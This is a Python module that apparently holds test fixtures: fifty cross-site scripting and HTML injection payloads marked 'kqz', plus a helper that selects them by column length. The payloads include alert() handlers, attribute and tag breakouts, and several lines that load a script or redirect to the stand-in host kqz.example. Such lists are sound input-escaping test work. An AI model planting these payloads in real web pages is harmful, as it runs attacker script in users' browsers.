"""Fifty texts that would run, load or lead somewhere if a page took them for markup; each names itself `kqz`."""

OUTSIDE = "kqz.example"

PAYLOADS: tuple[str, ...] = (
    # Short ones: a modality has eight characters, a dosimeter twenty.
    "<kqz>",
    "<kqz/>x",
    "<b id=kqz>",
    "<i class=kqz>",
    "'\"><kqz>",
    "<svg><kqz>",
    "<a name=kqz>x",
    "<img id=kqz>",
    "</p><kqz>",
    "--><kqz>",
    "${kqz}<kqz>",
    "{{kqz}}<kqz>",
    # Scripts and handlers.
    "<script>alert('kqz')</script>",
    "<script src=//kqz.example/x.js></script>",
    "<img src=x onerror=alert('kqz')>",
    "<img src=//kqz.example/x.png>",
    "\"><img src=x onerror=alert('kqz')>",
    "'><img src=x onerror=alert('kqz')>",
    "<svg/onload=alert('kqz')>",
    "<svg><script>alert('kqz')</script></svg>",
    "<svg><animate onbegin=alert('kqz') attributeName=x dur=1s>",
    "<body onload=alert('kqz')>",
    "<iframe src=javascript:alert('kqz')>",
    "<iframe src=//kqz.example></iframe>",
    "<iframe srcdoc='<script>alert(\"kqz\")</script>'>",
    "<object data=//kqz.example/x.swf>",
    "<embed src=//kqz.example/x.swf>",
    "<link rel=stylesheet href=//kqz.example/x.css>",
    "<style>@import '//kqz.example/x.css';</style>",
    "<div style=background:url(//kqz.example/x.png)>",
    "<input autofocus onfocus=alert('kqz')>",
    "<select autofocus onfocus=alert('kqz')><kqz>",
    "<textarea autofocus onfocus=alert('kqz')>",
    "<details open ontoggle=alert('kqz')>",
    "<video src=//kqz.example/x.mp4 onerror=alert('kqz')>",
    "<audio src=x onerror=alert('kqz')>",
    "<marquee onstart=alert('kqz')>",
    "<form action=//kqz.example><input type=submit id=kqz>",
    "<base href=//kqz.example/>",
    "<meta http-equiv=refresh content='0;url=//kqz.example'>",
    # Addresses, and what a chart takes for its own markup.
    "javascript:alert('kqz')",
    "<a href=javascript:alert('kqz')>kqz</a>",
    "<a href='https://kqz.example/'>kqz</a>",
    "<a href='//kqz.example' target=_blank>kqz</a>",
    "data:text/html,<script>alert('kqz')</script>",
    "[kqz](javascript:alert('kqz'))",
    "![kqz](//kqz.example/x.png)",
    # Out of an attribute, a script or a template.
    "\" onmouseover=alert('kqz') x=\"",
    "</script><script>alert('kqz')</script>",
    "</title></textarea></style><img src=x onerror=alert('kqz')>",
)


# Which of them a column of so many characters takes.
def fitting(length: int) -> list[str]:
    """The payloads of at most so many characters; the longer ones first, since short ones are in every column."""
    return sorted((text for text in PAYLOADS if len(text) <= length), key=len, reverse=True)
